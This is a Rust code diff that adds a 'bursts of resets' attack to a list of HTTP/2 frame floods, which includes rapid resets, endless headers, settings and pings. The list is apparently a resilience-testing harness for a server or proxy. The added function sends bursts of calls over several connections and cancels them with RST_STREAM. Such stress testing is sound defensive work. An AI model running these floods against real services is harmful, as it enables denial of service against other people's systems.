@@ -2,6 +2,8 @@
 
 use std::sync::atomic::AtomicUsize;
 
+use futures::future::join_all;
+
 use super::{
     Attack,
     raw::{
@@ -12,9 +14,10 @@ use super::{
 };
 
 /// These attacks by name.
-pub const FRAMES: [(&str, Attack); 11] = [
+pub const FRAMES: [(&str, Attack); 12] = [
     ("rapid resets", |target, count| Box::pin(reset_rapidly(target, count))),
     ("resets of complete calls", |target, count| Box::pin(reset_complete_calls(target, count))),
+    ("bursts of resets", |target, count| Box::pin(reset_in_bursts(target, count))),
     ("headers without an end", |target, count| Box::pin(continue_headers(target, count))),
     ("settings", |target, count| Box::pin(send_settings(target, count))),
     ("pings", |target, count| Box::pin(send_pings(target, count))),
@@ -29,6 +32,12 @@ pub const FRAMES: [(&str, Attack); 11] = [
 /// The frames that are sent at a time if they are cheap, and if they begin calls.
 const CHEAP_FRAMES: usize = 500;
 const CALLS: usize = if cfg!(debug_assertions) { 1 } else { 4 };
+
+/// The calls of a burst, the connections on which bursts are sent, and the time between two bursts, in pauses of the
+/// attacker. Debug builds are too slow for more.
+const BURST: usize = 16;
+const BURST_CONNECTIONS: usize = if cfg!(debug_assertions) { 1 } else { 4 };
+const BURST_PERIOD: usize = 20;
 
 /// References to the dynamic table in the headers of a call. Debug builds are slow to decode them.
 const REFERENCES: usize = if cfg!(debug_assertions) { 2000 } else { 10_000 };
@@ -66,6 +75,26 @@ async fn reset_complete_calls(target: &Target, count: &AtomicUsize) {
         streams.flat_map(reset).flatten().collect()
     };
     flood(target, count, |_| Vec::new(), frames).await;
+}
+
+/// Makes complete calls in bursts on several connections, and resets all of a burst at once when some have been
+/// forwarded to a service.
+async fn reset_in_bursts(target: &Target, count: &AtomicUsize) {
+    let token = target.token();
+    let frames = |rpc, number: usize| {
+        let streams = (0..BURST).map(|call| stream_id(BURST * (number / BURST_PERIOD) + call));
+        if number % BURST_PERIOD > 1 {
+            return Vec::new();
+        }
+        if number % BURST_PERIOD == 1 {
+            return streams.flat_map(|stream| frame(RST_STREAM, 0, stream, &CANCEL)).collect();
+        }
+        let headers = call_headers(rpc, &token);
+        let call =
+            |stream| [frame(HEADERS, END_HEADERS, stream, &headers), frame(DATA, END_STREAM, stream, &EMPTY_MESSAGE)];
+        streams.flat_map(call).flatten().collect()
+    };
+    join_all((0..BURST_CONNECTIONS).map(|_| flood(target, count, |_| Vec::new(), frames))).await;
 }
 
 /// Begins the headers of a call and continues them without an end: with long headers, with short ones, or with none.
